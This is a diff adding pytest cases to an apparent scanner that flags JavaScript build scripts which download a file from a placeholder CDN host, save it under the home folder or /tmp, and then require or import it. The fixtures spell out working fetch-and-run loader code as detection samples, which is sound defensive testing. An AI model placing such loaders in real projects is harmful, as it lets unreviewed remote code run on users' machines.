@@ -52,3 +52,46 @@ def test_a_bundled_module_with_the_same_folder_as_a_download_stays_quiet(tmp_pat
     script = "const render = require('./assets/render');\nrender('inter.woff2');\n"
     files = {"scripts/fonts.sh": fetch, "build.js": script, "assets/render.js": "module.exports = () => 1;\n"}
     assert not scan_errors(tmp_path, files)
+
+
+_SAVED_IN_HOME = """\
+const https = require("https");
+const fs = require("fs");
+const os = require("os");
+const path = require("path");
+const dir = path.join(os.homedir(), ".local", "share", "plotkit");
+https.get("https://assets.plotkit-cdn.invalid/theme.js", (r) => {
+  const parts = [];
+  r.on("data", (b) => parts.push(b));
+  r.on("end", () => {
+    const file = path.join(dir, "theme.js");
+    fs.writeFileSync(file, parts.join(""));
+    require(file);
+  });
+});
+"""
+
+
+def test_a_download_saved_under_the_home_folder_then_required_by_its_path_is_an_error(tmp_path: Path) -> None:
+    assert _run_errors(tmp_path, {"scripts/theme.js": _SAVED_IN_HOME}) == [("scripts/theme.js", 12)]
+
+
+def test_a_download_saved_under_an_absolute_path_then_imported_is_an_error(tmp_path: Path) -> None:
+    script = (
+        "import { writeFile } from 'node:fs/promises';\n"
+        "const res = await fetch('https://assets.plotkit-cdn.invalid/loader.mjs');\n"
+        "await writeFile('/tmp/plotkit-loader.mjs', await res.text());\n"
+        "await import('/tmp/plotkit-loader.mjs');\n"
+    )
+    assert _run_errors(tmp_path, {"scripts/load.mjs": script}) == [("scripts/load.mjs", 4)]
+
+
+def test_a_bundled_module_required_by_an_absolute_path_beside_a_saved_data_file_stays_quiet(tmp_path: Path) -> None:
+    script = (
+        "const https = require('https');\nconst fs = require('fs');\n"
+        "https.get('https://assets.plotkit-cdn.invalid/palette.json', (r) => {\n"
+        "  let t = '';\n  r.on('data', (c) => (t += c));\n"
+        "  r.on('end', () => fs.writeFileSync('/tmp/palette.json', t));\n});\n"
+        "const render = require('/opt/plotkit/render.js');\nrender();\n"
+    )
+    assert not scan_errors(tmp_path, {"scripts/palette.js": script})
